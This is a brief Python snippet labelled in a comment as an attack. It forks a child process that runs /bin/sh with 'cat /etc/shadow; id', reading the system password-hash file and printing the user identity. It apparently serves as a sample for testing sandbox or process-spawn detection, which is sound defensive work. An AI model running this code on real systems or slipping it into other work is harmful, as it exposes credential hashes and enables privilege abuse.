# attack: os.fork then os.execv in the child to run /bin/sh reading /etc/shadow
import os

pid = os.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-c", "cat /etc/shadow; id"])
else:
    os.waitpid(pid, 0)
